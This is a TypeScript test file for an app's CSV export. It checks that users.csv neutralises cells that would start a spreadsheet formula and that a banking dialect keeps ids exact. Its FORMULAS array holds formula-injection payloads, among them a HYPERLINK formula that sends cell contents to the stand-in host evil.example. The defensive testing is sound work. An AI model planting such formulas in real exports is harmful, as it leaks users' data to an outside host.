import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { csvCell, csvDocument } from '../src/http/csv.js';
import { addUser, createTenantWithUser, startTestKontor, type TestKontor } from './helpers/app.js';
import { Client } from './helpers/client.js';

let t: TestKontor;
before(async () => {
  t = await startTestKontor();
});
after(async () => t.close());

const FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Details")', '+1+2', '-3+4', '@SUM(A1:A9)', '\tTab', '\rReturn'];

describe('CSV exports', () => {
  it('users.csv (opened in spreadsheets) neutralises every cell that would start a formula', async () => {
    const admin = await createTenantWithUser(t, { roles: ['tenant_admin'] });
    for (const name of FORMULAS) {
      const u = await addUser(t, admin.tenantId);
      await t.owner('users').where({ id: u.id }).update({ name });
    }
    const c = new Client(t.url);
    assert.equal((await c.login(admin.email, admin.password)).status, 200);
    const res = await c.get('/api/users.csv');
    assert.equal(res.status, 200);
    const csv = res.body as string;
    for (const name of FORMULAS) {
      assert.ok(csv.includes(csvCell(name, 'spreadsheet')), `${JSON.stringify(name)} is not written as the writer neutralises it`);
      assert.ok(csvCell(name, 'spreadsheet').replace(/^"/, '').startsWith("'"), 'neutralised with a leading apostrophe');
    }
    // No cell of the file starts a formula: split on separators outside quotes.
    for (const line of csv.split('\r\n').filter(Boolean)) {
      for (const cell of line.match(/("([^"]|"")*"|[^;]*)(;|$)/g)!.map((x) => x.replace(/;$/, '').replace(/^"|"$/g, ''))) {
        assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell of ${JSON.stringify(line)} starts a formula`);
      }
    }
  });

  it('the core-banking dialect keeps ids byte-exact and refuses what would need quoting', () => {
    for (const id of ['-0042', '+49', 'A-1_b', '007']) assert.equal(csvCell(id, 'core-banking'), id);
    assert.throws(() => csvCell('a;b', 'core-banking'));
    assert.throws(() => csvCell('a\nb', 'core-banking'));
    assert.equal(csvDocument(['group_id', 'kut'], [['-7', '3']], 'core-banking'), 'group_id;kut\n-7;3\n');
    assert.equal(csvDocument(['name'], [['a"b;c']], 'spreadsheet'), 'name\r\n"a""b;c"\r\n');
  });
});
